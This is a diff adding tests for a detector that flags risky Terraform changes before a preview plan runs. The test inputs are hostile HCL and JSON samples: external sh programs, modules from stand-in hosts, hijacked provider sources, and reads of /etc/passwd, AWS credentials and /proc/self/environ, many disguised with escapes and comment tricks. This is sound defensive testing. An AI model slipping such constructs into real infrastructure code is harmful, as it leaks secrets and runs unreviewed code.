@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import json
 import time
 from typing import TYPE_CHECKING
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from driftwatch.pipeline.preview_code import Code, code_of, known_providers, protected, reasons
 
@@ -239,3 +242,390 @@ def test_no_text_takes_for_ever_to_look_at(text: str) -> None:
     assert len(reasons(Code(), code(main=text, lock=LOCK), known=AWS, changed=())) <= 50
     assert len(reasons(Code(), code(json=text, lock=LOCK), known=AWS, changed=())) <= 50
     assert time.process_time() - began < 20
+
+
+# ---- what a review walked round --------------------------------------------------------------------------
+
+RUNS = 'data "external" "x" {\n  program = ["sh", "x.sh"]\n}\n'
+REQUIRED = 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n'
+ENDPOINTS = 'provider "aws" {\n  endpoints {\n    sts = "https://x.test"\n  }\n}\n'
+EVIL_MODULE = 'module "m" {\n  source = "git::https://x.test/m"\n}\n'
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        f"# /*\n{REQUIRED}# */\n",
+        f"# /*\n{ENDPOINTS}# */\n",
+        f'locals {{\n  a = "x/*"\n}}\n{ENDPOINTS}locals {{\n  b = "*/5 * * * *"\n}}\n',
+        'provider "kubernetes" {\n  dynamic "ex\\u0065c" {\n    for_each = [1]\n    content {}\n  }\n}\n',
+        'data "terraform_remote_st\\u0061te" "x" {\n  backend = "s3"\n}\n',
+        'module "m" { source = local.s }\n',
+        'module "m" { source = join("", ["git::https:", "//x.test"]) }\n',
+        'provider "vault" { address = join("", [\n  "ht", "tps:/", "/x.test"\n]) }\n',
+        'module "m" {\n  source = "../../outside"\n}\n',
+        'check "c" {\n  data "http" "x" {\n    url = "http://x.test"\n  }\n}\n',
+        'ephemeral "aws_secret" "x" {\n}\n',
+        'data "aws_lambda_invocation" "x" {\n}\n',
+        'data "local_file" "x" {\n  filename = "/etc/passwd"\n}\n',
+        'terraform {\n  encryption {\n    key_provider "external" "x" {\n    }\n  }\n}\n',
+        'terraform {\n  provider_meta "aws" {\n  }\n}\n',
+        'terraform {\n  required_providers {\n    aws = { source = "${"evil"}/aws" }\n  }\n}\n',
+        'resource "aws_x" "a" {\n  provider = evil.other\n}\n',
+        'module "m" {\n  source    = "./m"\n  providers = { aws = evil }\n}\n',
+        'output "x" {\n  value = provider::aws::read("x")\n}\n',
+        'output "x" {\n  value = templatestring(local.text, {})\n}\n',
+        'removed {\n  from = aws_x.a\n  provisioner "local-exec" {\n  }\n}\n',
+        'action "aws_run" "x" {\n}\n',
+        "resource {\n}\n",
+        'x = "outermost"\n',
+        "locals {\n  x = (1\n}\n",
+        "locals {\n  \u00fc = 1\n}\n",
+        'locals {\n  x = "\x01"\n}\n',
+        "locals {\n  a = 1\r  b = 2\n}\n",
+        'locals {\n  x = "a$$${b}"\n}\n',
+        "locals {\n  x = <<A\nA\u00a0\n}\n" + RUNS + "locals {\n  y = <<A\nA\n}\n",
+        "locals {\n  a = <<A\n${1}A\n}\nlocals {\n  b = <<B\nA\n}\n" + RUNS + "locals {\n  c = <<B\nB\n}\n",
+        "locals {\n  x = " + "(" * 1000 + "1" + ")" * 1000 + "\n}\n",
+        "locals {\n  x = 1 /* }\n",
+    ],
+    ids=range(33),
+)
+def test_nothing_that_is_hidden_in_how_it_is_written_gets_by(added: str) -> None:
+    assert told(code(main=MAIN, lock=LOCK, more=added))
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        '{"provider": {"aws": {"endpoints": {"sts": "https://x.test"},\n"region": "x"}}}',
+        '{"provider": {"aws": {\n"shared_config_fil\\u0065s": ["./cfg"]}}}',
+        '{"terraform": {"required_provid\\u0065rs": {"aws": {"source": "evil/aws"}}}}',
+        '{"terraform": [{"required_providers": [{"aws": {"source": "evil/aws"}}]}]}',
+        '{"terraform": {"back\\u0065nd": {"http": {"address": "http://x.test"}}}}',
+        '{"modul\\u0065": {"m": [{"source": "./m"}, {"source": "git::https://x.test"}]}}',
+        '{"output": {"x": {"value": "${\\u0066ile(\\"/etc/passwd\\")}"}}}',
+        '{"output": {"x": {"value": "${file /* */ (\\"/etc/passwd\\")}"}}}',
+        '{"check": {"c": {"data": {"http": {"x": {"url": "http://x.test"}}}}}}',
+        '{"locals": {"x": "${"}}',
+        '{"locals": 1}',
+        '{"data": {"external": {"x": {}}}, "data": {}}',
+    ],
+    ids=range(12),
+)
+def test_neither_does_it_in_json(added: str) -> None:
+    assert told(code(main=MAIN, lock=LOCK, json=added))
+
+
+@pytest.mark.parametrize(
+    "lock",
+    [
+        LOCK + 'provider /**/ "registry.terraform.io/evil/aws" {\n  version = "1.0.0"\n}\n',
+        LOCK + 'provider "registry.terraform.io/\\u0065vil/aws" {\n}\n',
+        LOCK + "provider\n",
+        f"# /*\n{LOCK}provider evil {{\n}}\n# */\n",
+    ],
+)
+def test_a_lock_file_is_read_as_terraform_reads_it(lock: str) -> None:
+    assert told(code(main=MAIN, lock=lock))
+
+
+def test_a_lock_file_that_is_deleted_waits() -> None:
+    assert told(code(main=MAIN)) == [("net/.terraform.lock.hcl", None)]
+
+
+def test_a_file_that_takes_too_long_to_read_waits_itself(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("driftwatch.hcl.reading._LONGEST_PARSE", -1.0)
+    more = "locals {\n  too_long = [for k, v in {} : k]\n}\n" * 2000
+    assert ("net/more.tf", None) in told(code(main=MAIN, lock=LOCK, more=more))
+
+
+# ---- files of the machine --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        '"../../common.yaml"',
+        '"a/../../x"',
+        '"/etc/passwd"',
+        '"~/.aws/credentials"',
+        '"${path.module}/../../x"',
+        '"${path.module}/a/../../x"',
+        '"${path.module}x"',
+        '"${path.cwd}/x"',
+        '"../../../pr${"o"}c/self/environ"',
+        'path.module == "" ? "" : "/var/lib/x"',
+        "local.x",
+        '"${local.x}"',
+        '"../.git/config"',
+        '".terraform/x"',
+        "<<A\n/etc/passwd\nA\n",
+        '"a\\u002e\\u002e/../../../x"',
+        '"\\u002e./\\u002e./x"',
+        "",
+    ],
+)
+def test_a_path_that_may_lead_out_of_the_repository_waits(path: str) -> None:
+    more = f'output "x" {{\n  value = file({path})\n}}\n'
+    assert told(code(main=MAIN, lock=LOCK, more=more))
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        'file("x.yaml")',
+        'file("../common.yaml")',
+        'yamldecode(file("${path.module}/../common.yaml"))',
+        'filemd5("${path.root}/a/b")',
+        'fileset(path.module, "policies/*.json")',
+        'templatefile("${path.module}/x.tpl", { a = local.a, b = "${var.b}!" })',
+        '<<-EOT\n  ${file("x")} $${no} /etc/passwd\nEOT\n',
+    ],
+)
+def test_a_path_that_stays_in_the_repository_waits_for_nobody(call: str) -> None:
+    assert told(code(main=MAIN, lock=LOCK, more=f'output "x" {{\n  value = {call}\n}}\n')) == []
+
+
+@pytest.mark.parametrize("pattern", ['"../**"', "local.x", '"{.,x}./**"', '"/etc/*"[0]'])
+def test_a_pattern_that_may_lead_out_waits(pattern: str) -> None:
+    more = f'output "x" {{\n  value = fileset(path.module, {pattern})\n}}\n'
+    assert told(code(main=MAIN, lock=LOCK, more=more))
+
+
+def test_from_a_root_module_that_lies_higher_a_path_leads_further_out() -> None:
+    text = b'output "x" {\n  value = file("../../x")\n}\n'
+    deep = Code(files={"a/b/c/m/x.tf": text}, root="a/b/c")
+    high = Code(files={"a/b/c/m/x.tf": text}, root="a")
+    assert not reasons(Code(), deep, known=AWS, changed=())
+    assert reasons(Code(), high, known=AWS, changed=())
+
+
+def test_a_template_that_reads_files_waits_and_any_other_does_not(tmp_path: Path) -> None:
+    checkout = tmp_path / "checkout"
+    (checkout / "net").mkdir(parents=True)
+    (checkout / "net" / "main.tf").write_text(
+        'output "x" {\n  value = templatefile("${path.module}/x.tpl", {})\n}\n'
+    )
+    template = checkout / "net" / "x.tpl"
+    template.write_text("a file ${name}")
+    before = code_of(checkout, ["net"])
+    template.write_text("another file ${name} file(x)")
+    assert told(code_of(checkout, ["net"]), before, ("net/x.tpl",)) == []
+    for text in ('${file("/proc/self/environ")}', '%{ if file /**/ (\n"/x") == 1 }%{ endif }', "${file"):
+        template.write_text(text)
+        assert told(code_of(checkout, ["net"]), before, ("net/x.tpl",)) == [("net/x.tpl", None)]
+
+
+def test_a_file_behind_a_link_that_leads_out_waits(tmp_path: Path) -> None:
+    checkout = tmp_path / "checkout"
+    (checkout / "net").mkdir(parents=True)
+    (checkout / "net" / "main.tf").write_text('output "x" {\n  value = file("x")\n}\n')
+    (tmp_path / "secret").write_text("secret")
+    (checkout / "net" / "x").symlink_to(tmp_path / "secret")
+    assert code_of(checkout, ["net"]).unread == {"net/main.tf"}
+
+
+def test_a_module_that_nobody_named_among_what_is_read_is_looked_at(tmp_path: Path) -> None:
+    checkout = tmp_path / "checkout"
+    for name, text in {"net": 'module "m" {\n  source = "../m"\n}\n', "m": RUNS}.items():
+        (checkout / name).mkdir(parents=True)
+        (checkout / name / "main.tf").write_text(text)
+    assert told(code_of(checkout, ["net"]), Code()) == [("m/main.tf:1", 'data "external" "x" {')]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "net/.terraform/modules/modules.json",
+        "net/terraform.tfstate",
+        ".terraformrc",
+        "x/terraform.d/plugins/x",
+    ],
+)
+def test_what_terraform_takes_up_by_itself_waits(path: str) -> None:
+    assert told(BEFORE, BEFORE, (path,)) == [(path, None)]
+
+
+def test_a_file_that_overrides_others_waits() -> None:
+    assert told(code(main=MAIN, lock=LOCK, override='resource "aws_s3_object" "page" {\n}\n'))
+
+
+# ---- what is behind it -----------------------------------------------------------------------------------
+
+VAULT = 'provider "vault" {\n  address = var.where\n}\nvariable "where" {\n  default = local.usual\n}\n'
+PROGRAM = 'data "external" "x" {\n  program = ["sh", "-c", local.program]\n}\n'
+
+
+def moved(before: dict[str, str], after: dict[str, str]) -> list[tuple[str, str | None]]:
+    usual = {"s/main.tf": MAIN, "s/.terraform.lock.hcl": LOCK}
+    sides = [
+        Code(
+            files={
+                name: text.encode() for name, text in {**usual, **files}.items() if name[:2] in ("s/", "m/")
+            }
+        )
+        for files in (before, {**before, **after})
+    ]
+    return told(sides[1], sides[0], tuple(after))
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ({"s/a.tf": 'provider "vault" {\n  address = var.a\n}\n', "s/b.tf": 'variable "a" {\n  default = "x"\n}\n'},
+         {"s/b.tf": 'variable "a" {\n  default = "y"\n}\n'}),
+        ({"s/a.tf": 'provider "vault" {\n  address = var.a\n}\n'}, {"s/terraform.tfvars": 'a = "y"\n'}),
+        ({"s/a.tf": 'provider "vault" {\n  address = var.a\n}\n'},
+         {"s/x.auto.tfvars.json": '{"\\u0061": "y"}'}),
+        ({"s/a.tf": 'provider "vault" {\n  address = var.a\n}\n', "s/x.auto.tfvars": 'a = "y"\n'},
+         {"s/x.auto.tfvars": "\n"}),
+        ({"s/a.tf": PROGRAM, "s/b.tf": 'locals {\n  program = "x"\n}\n'},
+         {"s/b.tf": 'locals {\n  program = "y"\n}\n'}),
+        ({"s/a.tf": PROGRAM, "s/b.tf": 'locals {\n  program = local /**/ . deep\n  deep = ["x"]\n}\n'},
+         {"s/b.tf": 'locals {\n  program = local /**/ . deep\n  deep = ["y"]\n}\n'}),
+        ({"s/a.tf": PROGRAM, "s/b.tf": "locals {\n  program = module.m.x\n}\n", "m/o.tf": 'output "x" {\n  value = 1\n}\n'},
+         {"m/o.tf": 'output "x" {\n  value = 2\n}\n'}),
+        ({"m/a.tf": PROGRAM.replace("local", "var"), "s/b.tf": 'module "m" {\n  source = "../m"\n  program = "x"\n}\n'},
+         {"s/b.tf": 'module "m" {\n  source = "../m"\n  program = "y"\n}\n'}),
+        ({"m/a.tf": PROGRAM.replace("local", "var"),
+          "s/b.tf": 'module "m" {\n  source = "../m"\n  for_each = ["x"]\n  program = each.key\n}\n'},
+         {"s/b.tf": 'module "m" {\n  source = "../m"\n  for_each = ["y"]\n  program = each.key\n}\n'}),
+        ({"s/a.tf": 'provider "vault" {\n  address = terraform_data.a.output\n}\n',
+          "s/b.tf": 'resource "terraform_data" "a" {\n  input = "x"\n}\n'},
+         {"s/b.tf": 'resource "terraform_data" "a" {\n  input = "y"\n}\n'}),
+        ({"s/a.tf": 'output "x" {\n  value = file("${path.module}/${local.a}")\n}\n', "s/b.tf": 'locals {\n  a = "x"\n}\n'},
+         {"s/b.tf": 'locals {\n  a = "../../../x"\n}\n'}),
+        ({"s/a.tf": PROGRAM, "s/b.tf": 'locals {\n  program = file("x.txt")\n}\n'}, {"s/x.txt": "y"}),
+        ({"s/a.tf": 'provider "aws" {\n  shared_config_files = ["./cfg"]\n}\n'}, {"s/cfg": "y"}),
+        ({"s/a.tf": 'provider "aws" {\n  endpoints {\n  }\n}\n'}, {"s/a.tf": 'provider "aws" {\n}\n'}),
+        ({"s/a.tf": 'terraform {\n  required_providers {\n    x = { source = "acme/x" }\n  }\n}\n'},
+         {"s/a.tf": "\n"}),
+        ({"s/a.tf": 'data "terraform_remote_state" "x" {\n  config = {\n    key = "a"\n  }\n}\n'},
+         {"s/a.tf": 'data "terraform_remote_state" "x" {\n  config = {\n    key = "b"\n  }\n}\n'}),
+        ({"s/a.tf": 'module "m" {\n  source  = "acme/m/aws"\n  version = "1"\n}\n'},
+         {"s/a.tf": 'module "m" {\n  source  = "acme/m/aws"\n  version = "2"\n}\n'}),
+        ({"s/main.tf": MAIN}, {"s/main.tf": MAIN.replace('backend "s3" { bucket = "states" }', "")}),
+        ({"s/a.tf": "locals {\n", "s/b.tf": "\n"}, {"s/b.tf": "locals {\n}\n"}),
+    ],
+    ids=range(19),
+)  # fmt: skip
+def test_what_decides_where_something_goes_or_what_runs_waits(
+    before: dict[str, str], after: dict[str, str]
+) -> None:
+    assert moved(before, after)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ({"s/b.tf": 'locals {\n  a = "x"\n}\n'}, {"s/b.tf": 'locals {\n  a = "y"\n}\n'}),
+        ({"s/a.tf": PROGRAM, "s/b.tf": 'locals {\n  a = "x"\n}\n'}, {"s/b.tf": 'locals {\n  a = "y"\n}\n'}),
+        ({"s/a.tf": VAULT}, {"s/b.tf": 'variable "more" {\n  default = "x"\n}\n'}),
+        ({"s/a.tf": VAULT}, {"s/terraform.tfvars": 'more = "x"\n'}),
+        ({"s/a.tf": VAULT}, {"s/b.tf": 'resource "aws_x" "a" {\n  tags = { a = "b" }\n}\n'}),
+        ({"s/a.tf": VAULT}, {"s/b.tf": 'output "x" {\n  value = aws_x.a.id\n}\n'}),
+        ({"s/a.tf": VAULT}, {"s/b.tf": 'data "aws_ami" "x" {\n  owners = ["self"]\n}\n'}),
+        ({"s/a.tf": 'provider "aws" {\n  region = "a"\n}\n'},
+         {"s/a.tf": 'provider "aws" {\n  region = "b"\n}\n'}),
+        ({"s/a.tf": VAULT}, {"s/a.tf": "# a word\n" + VAULT.replace("= ", "=   ")}),
+        ({"s/a.tf": VAULT},
+         {"s/b.tf": "import {\n  for_each = local.a\n  to = aws_x.a[each.key]\n  id = each.key\n}\n"}),
+        ({"s/a.tf": VAULT}, {"s/b.tf": "moved {\n  from = aws_x.a\n  to = aws_x.b\n}\n"}),
+        ({"s/a.tf": VAULT}, {"README.md": "x", "app/main.py": "x"}),
+        (
+            {"s/a.tf": 'resource "aws_x" "a" {\n  size = 1\n  provisioner "local-exec" {\n  }\n}\n'},
+            {"s/a.tf": 'resource "aws_x" "a" {\n  size = 2\n  provisioner "local-exec" {\n  }\n}\n'},
+        ),
+    ],
+    ids=range(13),
+)  # fmt: skip
+def test_an_ordinary_change_beside_it_waits_for_nobody(before: dict[str, str], after: dict[str, str]) -> None:
+    assert moved(before, after) == []
+
+
+# ---- however it is wrapped -------------------------------------------------------------------------------
+
+_GAPS = st.sampled_from([" ", "  ", "\t", "/**/", " /* a */ ", "/*\n*/", ' /* " */ ', "/*#*/"])
+_BETWEEN = st.sampled_from(
+    [
+        "",
+        "\n",
+        "# /*\n",
+        "# */\n",
+        "// x\n",
+        "/* # */\n",
+        'locals {\n  a = "/*"\n}\n',
+        'locals {\n  b = "*/ # ${"}"} $${"\n}\n',
+        'locals {\n  c = <<A\n}\n"\n/* ${1} $${\nA\n}\n',
+        "locals {\n  d = <<-B\n  # A\n  B\n}\n",
+        "\r\n",
+    ]
+)
+_DANGERS = (
+    (("data", '"external"', '"x"'), 'program = ["sh"]'),
+    (("data", '"terraform_remote_state"', '"x"'), 'backend = "s3"'),
+    (("data", '"http"', '"x"'), 'url = "http://x.test"'),
+    (("module", '"m"'), 'source = "git::https://x.test/m"'),
+    (("provider", '"aws"'), 'profile = "other"'),
+    (("provider", '"kubernetes"'), 'dynamic "exec" {}'),
+    (("resource", '"evil_x"', '"a"'), "a = 1"),
+    (("resource", '"aws_x"', '"a"'), 'provisioner "local-exec" {}'),
+    (("ephemeral", '"aws_x"', '"a"'), "a = 1"),
+    (("terraform",), 'backend "http" {}'),
+    (("terraform",), 'required_providers { aws = { source = "evil/aws" } }'),
+    (("output", '"x"'), 'value = file("/etc/passwd")'),
+    (("output", '"x"'), 'value = file ( "../../x" )'),
+)
+
+
+@st.composite
+def _wrapped(draw: st.DrawFn) -> str:
+    """One of what does harm, as odd as HCL lets it be written."""
+    head, body = draw(st.sampled_from(_DANGERS))
+
+    def escaped(word: str) -> str:
+        if not word.startswith('"'):
+            return word
+        letters = [(f"\\u{ord(each):04x}" if draw(st.booleans()) else each) for each in word[1:-1]]
+        return f'"{"".join(letters)}"'
+
+    written = "".join(escaped(word) + draw(_GAPS) for word in head)
+    inner = body.replace(" ", draw(_GAPS))
+    ends = draw(st.sampled_from(["\n", "\r\n", " # x\n"]))
+    return (
+        "".join(draw(st.lists(_BETWEEN, max_size=3)))
+        + f"{written}{{{ends}{inner}{ends}}}\n"
+        + "".join(draw(st.lists(_BETWEEN, max_size=3)))
+    )
+
+
+@given(_wrapped())
+@settings(max_examples=150, deadline=None)
+def test_however_it_is_written_what_does_harm_waits(text: str) -> None:
+    assert told(code(main=MAIN, lock=LOCK, more=text))
+
+
+_JSON_DANGERS = (
+    {"data": {"external": {"x": {"program": ["sh"]}}}},
+    {"module": {"m": {"source": "git::https://x.test/m"}}},
+    {"provider": {"aws": {"endpoints": {"sts": "http://x.test"}}}},
+    {"terraform": {"required_providers": {"aws": {"source": "evil/aws"}}}},
+    {"terraform": {"backend": {"http": {}}}},
+    {"resource": {"aws_x": {"a": {"provisioner": {"local-exec": {}}}}}},
+    {"output": {"x": {"value": '${file("/etc/passwd")}'}}},
+)
+
+
+@given(st.sampled_from(_JSON_DANGERS), st.data())
+@settings(max_examples=60, deadline=None)
+def test_however_it_is_written_in_json_what_does_harm_waits(
+    danger: dict[str, object], data: st.DataObject
+) -> None:
+    written = "".join(
+        f"\\u{ord(each):04x}" if each.isalpha() and data.draw(st.booleans()) else each
+        for each in json.dumps(danger)
+    )
+    written = written.replace(": ", data.draw(st.sampled_from([":", " :\n ", ":\t"])))
+    listed = data.draw(st.booleans())
+    assert told(code(main=MAIN, lock=LOCK, json=f"[{written}]" if listed else written))
